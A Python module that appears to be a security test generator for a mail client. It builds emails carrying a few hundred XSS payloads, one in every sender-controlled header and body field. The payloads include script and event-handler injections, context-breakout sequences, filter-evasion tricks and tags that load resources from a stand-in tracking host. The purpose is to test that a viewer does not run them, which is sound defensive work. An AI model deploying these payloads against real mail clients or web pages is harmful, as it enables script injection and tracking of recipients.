"""Mail that attacks the program that shows it: payloads in everything that a sender controls.

`{sink}` in a payload is a server that counts who comes; `zzran()` is what a script would call. `messages(sink)` gives one
message for each payload: it has that one in the first field, the next ones in the others, so that every payload is in every
field once. Each message has its number in the subject.
"""

import base64

WRITTEN = [
    "<script>zzran(1)</script>",
    "</title><script>zzran(1)</script>",
    "</textarea><script>zzran(1)</script>",
    "\"><script>zzran(1)</script>",
    "'><script>zzran(1)</script>",
    "--><script>zzran(1)</script>",
    "]]><script>zzran(1)</script>",
    "<script src=http://{sink}/s.js></script>",
    "<ScRiPt>zzran(1)</sCrIpT>",
    "<scr<script>ipt>zzran(1)</scr</script>ipt>",
    "<img src=x onerror=zzran(1)>",
    "<img src=http://{sink}/i.png>",
    "\"><img src=x onerror=zzran(1)>",
    "\" autofocus onfocus=zzran(1) x=\"",
    "' onmouseover='zzran(1)' style='position:fixed;inset:0' x='",
    "<svg onload=zzran(1)>",
    "<svg><script>zzran(1)</script></svg>",
    "<svg><animate onbegin=zzran(1) attributeName=x dur=1s>",
    "<svg><image href=http://{sink}/i.svg /></svg>",
    "<svg><use href=http://{sink}/u.svg#x /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zzran(1)>",
    "<body onload=zzran(1)>",
    "<iframe src=javascript:parent.zzran(1)></iframe>",
    "<iframe srcdoc='<script>parent.zzran(1)</script>'></iframe>",
    "<iframe src=http://{sink}/f></iframe>",
    "<object data=http://{sink}/o></object>",
    "<embed src=http://{sink}/e>",
    "<link rel=stylesheet href=http://{sink}/l.css>",
    "<link rel=prefetch href=http://{sink}/p>",
    "<link rel=dns-prefetch href=//zzevil.invalid>",
    "<style>@import url(http://{sink}/c.css);</style>",
    "<style>body{{background:url(http://{sink}/b.png)}}</style>",
    "<div style='background:url(http://{sink}/d.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=http://{sink}/m'>",
    "<base href=http://{sink}/>",
    "<form action=http://{sink}/x id=f><input name=a></form><script>f.submit()</script>",
    "<a href=javascript:zzran(1)>click</a>",
    "<details open ontoggle=zzran(1)>",
    "<video autoplay onplay=zzran(1)><source src=http://{sink}/v onerror=zzran(1)></video>",
    "<audio src=http://{sink}/a autoplay>",
    "<input autofocus onfocus=zzran(1)>",
    "<marquee onstart=zzran(1)>x</marquee>",
    "<template><script>zzran(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=zzran(1)>'>",
    "{{{{constructor.constructor('zzran(1)')()}}}}",
    "javascript:zzran(1)//",
    "data:text/html,<script>zzran(1)</script>",
    "\u2028<img src=x onerror=zzran(1)>",
    "\u202e<script>zzran(1)</script>",
    "+ADw-script+AD4-zzran(1)+ADw-/script+AD4-",
]
# What ends the place that a text may be in, and what may come then.
ENDS = ['">', "'>", "`>", "-->", "--!>", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</option></select>",
        "</template>", "</svg>", "\n\n", "\t", "&quot;>", "\\\">"]
THEN = ["<script>zzran(2)</script>", "<img src=x onerror=zzran(2)>", "<img/src=http://{sink}/t.png>", "<svg/onload=zzran(2)>",
        "<iframe/src=http://{sink}/t></iframe>", "<input/autofocus/onfocus=zzran(2)>", "<link rel=stylesheet href=//{sink}/t.css>",
        "<a href=javascript:zzran(2)>x</a>", "<meta http-equiv=refresh content=0;url=http://{sink}/t>"]
# Handlers that run by themselves, on elements that may have them.
HANDLERS = [("img src=x", "onerror"), ("image src=x", "onerror"), ("audio src=x", "onerror"), ("video src=x", "onerror"), ("object data=x", "onerror"),
            ("script src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"), ("iframe", "onload"), ("style", "onload"), ("svg", "onload"),
            ("body", "onpageshow"), ("body", "onload"), ("body", "onhashchange"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("details open", "ontoggle"),
            ("marquee", "onstart"), ("div style='animation:a 1s'", "onanimationstart"), ("p contenteditable autofocus", "onfocus"),
            ("div tabindex=1 autofocus", "onfocus"), ("video autoplay src=data:,", "onloadstart"), ("audio autoplay src=data:,", "onloadstart")]
# How filters that look for them are got round.
TRICKS = ["<{0} {1}=zzran(3)>", "<{0}\t{1}\n=\nzzran(3)>", "<{0}/{1}='zzran(3)'>", "<{0} {1}=&#122;zran(3)>"]


def payloads():
    """At least 300, each once."""
    made = [end + THEN[(number + step) % len(THEN)] for number, end in enumerate(ENDS) for step in range(8)]
    for number, (element, handler) in enumerate(HANDLERS):
        made += [TRICKS[(number + step) % len(TRICKS)].format(element, handler) for step in range(4)]
    return list(dict.fromkeys(WRITTEN + made))


FIELDS = ["from name", "from address", "subject", "message-id", "attachment", "received", "text", "page", "list"]


def word(text):
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def message(number, value):
    """One with these texts in its fields; it is held back, so that reasons, text, links and preview are shown."""
    raw = {name: " ".join(text.replace("\u2028", " ").replace("\u202e", " ").split()) for name, text in value.items()}
    address = '"' + raw["from address"].replace("\\", "\\\\").replace('"', '\\"') + '"@example.org'
    name = word(value["attachment"])
    return "\r\n".join([
        f"Received: from {raw['received']} by mx.example.com; Mon, 02 Nov 2026 10:00:00 +0000",
        f"From: {word(value['from name'])} <{address}>",
        "To: ann@example.net",
        f"Subject: {word(f'hostile {number} ' + value['subject'])}",
        "Date: Mon, 02 Nov 2026 10:00:00 +0000",
        f"Message-ID: <{number}.{raw['message-id']}@example.org>",
        f"List-Unsubscribe: <{raw['list']}>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"', "", "--b",
        "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.b64encode(f"{value['text']} zzheldzz".encode()).decode(), "--b",
        "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.b64encode(f"<html><body>{value['page']}<p>zzheldzz</p></body></html>".encode()).decode(), "--b",
        f'Content-Type: application/pdf; name="{name}"',
        f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64", "",
        base64.b64encode(b"%PDF-1.4").decode(), "--b--", "",
    ]).encode()


def messages(sink):
    texts = [payload.format(sink=sink) for payload in payloads()]
    count = len(texts)
    return [message(number, {name: texts[(number + place) % count] for place, name in enumerate(FIELDS)}) for number in range(count)]
